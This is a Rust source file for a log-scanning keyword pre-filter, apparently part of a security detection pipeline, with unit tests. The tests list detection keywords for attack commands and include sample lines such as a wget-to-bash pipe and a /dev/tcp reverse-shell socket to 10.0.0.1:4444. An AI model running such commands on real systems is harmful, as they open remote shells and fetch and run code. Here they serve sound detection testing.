//! Which of a set of lowercase literals occur in a text, ASCII
//! case-insensitively: the keyword pre-filter, run over every field of
//! every event.
//!
//! A DFA (aho-corasick) makes one dependent table load per byte, so it
//! scans at well under 1 GB/s. This filter hashes every window of `w`
//! bytes (the shortest literal's length, at most 4) with its letters
//! folded to lower case and tests one bit of a 64 Kibit table (8 KiB,
//! in L1): positions do not depend on each other, so the loop pipelines.
//! Each literal is entered by its rarest window of `w` bytes (at offset
//! `j`, by a rough rank of how common bytes are in logs). A set bit is
//! verified against the literals whose window hashes there, at `j` bytes
//! back. Every occurrence of every literal is found (a literal at
//! position `i` has the same folded window as the text at `i + j`, and
//! the scan visits every position); false positives only cost a
//! verification.

/// Bits in the window table.
const TABLE_BITS: u32 = 16;

/// A compiled literal set.
#[derive(Debug, Clone)]
pub(crate) struct KwFilter {
    /// Window length in bytes (1..=4): the shortest literal's.
    window: usize,
    /// One bit per window hash.
    table: Box<[u64]>,
    /// (window hash, literal id, offset of the hashed window in the
    /// literal), sorted by hash.
    entries: Box<[(u32, u32, u32)]>,
    /// The literals (lowercase), by id.
    pats: Box<[Box<[u8]>]>,
}

/// How common a window's bytes are in log text (a rough rank: blanks,
/// frequent letters, digits and log punctuation high; rare symbols low).
fn commonness(w: &[u8]) -> u32 {
    w.iter()
        .map(|b| match b.to_ascii_lowercase() {
            b' ' => 255,
            b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 220,
            b'h' | b'l' | b'd' | b'c' | b'u' | b'm' | b'p' | b'f' | b'g' => 180,
            b'0'..=b'9' | b'.' | b':' | b'/' | b'-' | b'=' => 180,
            b'w' | b'y' | b'b' | b'[' | b']' | b',' => 140,
            b'v' | b'k' | b'_' | b'\'' | b'"' => 110,
            b'x' | b'j' | b'q' | b'z' | b'(' | b')' => 80,
            _ => 60,
        })
        .sum()
}

/// Fold ASCII letters to lower case, a byte per lane (other bytes are
/// left alone, so the fold agrees with `to_ascii_lowercase`).
#[inline]
fn fold4(w: u32) -> u32 {
    // Lanes holding 'A'..='Z' get their 0x20 bit set (SWAR range test:
    // no lane carries into the next because every lane is < 0x80 after
    // the masks, and non-ASCII lanes are excluded by `ascii`).
    let ascii = !w & 0x8080_8080;
    let x = w & 0x7f7f_7f7f;
    let ge_a = x.wrapping_add(0x3f3f_3f3f); // lane >= 'A' (0x41) sets 0x80
    let gt_z = x.wrapping_add(0x2525_2525); // lane > 'Z' (0x5a) sets 0x80
    let upper = ge_a & !gt_z & ascii & 0x8080_8080;
    w | (upper >> 2)
}

/// [`fold4`] over eight lanes.
#[inline]
fn fold8(w: u64) -> u64 {
    let ascii = !w & 0x8080_8080_8080_8080;
    let x = w & 0x7f7f_7f7f_7f7f_7f7f;
    let ge_a = x.wrapping_add(0x3f3f_3f3f_3f3f_3f3f);
    let gt_z = x.wrapping_add(0x2525_2525_2525_2525);
    let upper = ge_a & !gt_z & ascii & 0x8080_8080_8080_8080;
    w | (upper >> 2)
}

#[inline]
fn hash(w: u32) -> u32 {
    w.wrapping_mul(0x9E37_79B1) >> (32 - TABLE_BITS)
}

/// The first `n` bytes of `b` (n ≤ 4, b.len() ≥ n) as a little-endian word.
#[inline]
fn word(b: &[u8], n: usize) -> u32 {
    let mut w = [0u8; 4];
    if let (Some(d), Some(s)) = (w.get_mut(..n), b.get(..n)) {
        d.copy_from_slice(s);
    }
    u32::from_le_bytes(w)
}

impl KwFilter {
    /// A filter over `pats` (lowercase, none empty); None when empty.
    pub(crate) fn new(pats: &[&[u8]]) -> Option<KwFilter> {
        let window = pats.iter().map(|p| p.len()).min()?.clamp(1, 4);
        if pats.iter().any(|p| p.is_empty()) {
            return None;
        }
        let mut table = vec![0u64; (1usize << TABLE_BITS) / 64].into_boxed_slice();
        let mut entries = Vec::with_capacity(pats.len());
        for (id, p) in pats.iter().enumerate() {
            // Hash the literal's rarest window, so that common text (`port`
            // in `port and pasv both active`) seldom needs a verification.
            let at = (0..=p.len() - window)
                .min_by_key(|&j| p.get(j..j + window).map_or(u32::MAX, commonness))
                .unwrap_or(0);
            let h = hash(fold4(word(p.get(at..).unwrap_or(&[]), window)));
            if let Some(t) = table.get_mut((h / 64) as usize) {
                *t |= 1u64 << (h % 64);
            }
            entries.push((h, u32::try_from(id).ok()?, u32::try_from(at).ok()?));
        }
        entries.sort_unstable();
        Some(KwFilter {
            window,
            table,
            entries: entries.into_boxed_slice(),
            pats: pats.iter().map(|p| Box::from(*p)).collect(),
        })
    }

    /// Number of literals.
    pub(crate) fn len(&self) -> usize {
        self.pats.len()
    }

    /// Set bit `id` of `bits` for every literal occurring in `text`
    /// (ASCII case-insensitively; `text` is lowercased already when it is
    /// not ASCII).
    pub(crate) fn scan(&self, text: &[u8], bits: &mut [u64]) {
        let n = self.window;
        if text.len() < n {
            return;
        }
        let last = text.len() - n;
        let mask = u32::MAX >> (32 - 8 * n);
        let mut i = 0usize;
        // Eight bytes loaded and folded at once give the windows at five
        // positions (the fifth ends at the eighth byte).
        while let Some(b) = text.get(i..i + 8) {
            let mut w8 = [0u8; 8];
            w8.copy_from_slice(b);
            let x = fold8(u64::from_le_bytes(w8));
            for k in 0..5 {
                self.probe(text, i + k, hash((x >> (8 * k)) as u32 & mask), bits);
            }
            i += 5;
        }
        // Four bytes at a time while a whole word is readable.
        while i + 4 <= text.len() && i <= last {
            let Some(b) = text.get(i..i + 4) else { break };
            let w = u32::from_le_bytes([b[0], b[1], b[2], b[3]]);
            self.probe(text, i, hash(fold4(w) & mask), bits);
            i += 1;
        }
        // The tail (shorter than a word).
        while i <= last {
            let h = hash(fold4(word(text.get(i..).unwrap_or(&[]), n)));
            self.probe(text, i, h, bits);
            i += 1;
        }
    }

    /// Test the window hash `h` at `at`; verify the literals behind a hit.
    #[inline(always)]
    fn probe(&self, text: &[u8], at: usize, h: u32, bits: &mut [u64]) {
        if self
            .table
            .get((h / 64) as usize)
            .is_some_and(|t| t & (1u64 << (h % 64)) != 0)
        {
            self.verify(text, at, h, bits);
        }
    }

    #[cold]
    fn verify(&self, text: &[u8], at: usize, h: u32, bits: &mut [u64]) {
        let start = self.entries.partition_point(|&(eh, _, _)| eh < h);
        for &(eh, id, off) in self.entries.get(start..).unwrap_or(&[]) {
            if eh != h {
                break;
            }
            let Some(rest) = at.checked_sub(off as usize).and_then(|s| text.get(s..)) else {
                continue;
            };
            let Some(p) = self.pats.get(id as usize) else {
                continue;
            };
            if rest.len() >= p.len()
                && rest
                    .get(..p.len())
                    .is_some_and(|t| t.eq_ignore_ascii_case(p))
            {
                if let Some(w) = bits.get_mut(id as usize / 64) {
                    *w |= 1u64 << (id % 64);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{fold4, fold8, KwFilter};

    #[test]
    fn fold8_is_fold4_on_each_half() {
        for b in 0u8..=255 {
            let bytes = [b, b'Z', 0xC3, b, b'@', b'[', b, b'a'];
            let w = u64::from_le_bytes(bytes);
            let lo = fold4(u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]));
            let hi = fold4(u32::from_le_bytes([bytes[4], bytes[5], bytes[6], bytes[7]]));
            assert_eq!(
                fold8(w),
                u64::from(lo) | (u64::from(hi) << 32),
                "byte {b:#x}"
            );
        }
    }

    #[test]
    fn fold_matches_ascii_lowercase_on_every_byte() {
        for b in 0u8..=255 {
            let w = u32::from_le_bytes([b, b'A', b, 0xC3]);
            let want =
                u32::from_le_bytes([b.to_ascii_lowercase(), b'a', b.to_ascii_lowercase(), 0xC3]);
            assert_eq!(fold4(w), want, "byte {b:#x}");
        }
    }

    fn found(f: &KwFilter, text: &str) -> Vec<usize> {
        let mut bits = vec![0u64; f.len().div_ceil(64)];
        f.scan(text.as_bytes(), &mut bits);
        (0..f.len())
            .filter(|i| bits[i / 64] & (1 << (i % 64)) != 0)
            .collect()
    }

    /// Against a plain search, on texts that put literals at the start,
    /// the end, overlapping, in other cases, and around non-ASCII text.
    #[test]
    fn finds_what_a_plain_search_finds() {
        let sets: [&[&str]; 3] = [
            &["wget ", "/dev/tcp/", "nc -e", "bash -i", "passwd"],
            &["ab", "abc", "bca", "x"],
            &["new user", "rm -rf /", "ü-straße", "chmod 777"],
        ];
        let texts = [
            "",
            "a",
            "WGET http://x | BASH -I",
            "exec 5<>/DEV/TCP/10.0.0.1/4444",
            "abcabca x",
            "sshd: NEW USER: name=bob",
            "ü-straße rm -rf / now",
            "chmod 77",
            "chmod 777",
            "passw",
            "xpasswd",
        ];
        for set in sets {
            let pats: Vec<&[u8]> = set.iter().map(|p| p.as_bytes()).collect();
            let f = KwFilter::new(&pats).unwrap();
            for t in texts {
                let lower = t.to_ascii_lowercase();
                let want: Vec<usize> = (0..set.len()).filter(|&i| lower.contains(set[i])).collect();
                assert_eq!(found(&f, t), want, "{set:?} in {t:?}");
            }
        }
        assert!(KwFilter::new(&[]).is_none());
    }

    /// A literal is found at every offset from the start of a block, at
    /// the very end, and in every case: the eight-byte blocks and the
    /// tail loops hand over without a gap.
    #[test]
    fn finds_literals_at_every_offset() {
        for set in [&["ab", "xyz"][..], &["abcd", "bcdefgh"][..], &["q"][..]] {
            let pats: Vec<&[u8]> = set.iter().map(|p| p.as_bytes()).collect();
            let f = KwFilter::new(&pats).unwrap();
            for (id, lit) in set.iter().enumerate() {
                for lead in 0..24 {
                    for trail in 0..10 {
                        for upper in [false, true] {
                            let l = if upper {
                                lit.to_ascii_uppercase()
                            } else {
                                lit.to_string()
                            };
                            let t = format!("{}{l}{}", "-".repeat(lead), ".".repeat(trail));
                            assert!(found(&f, &t).contains(&id), "{lit:?} in {t:?}");
                        }
                    }
                }
            }
        }
    }
}
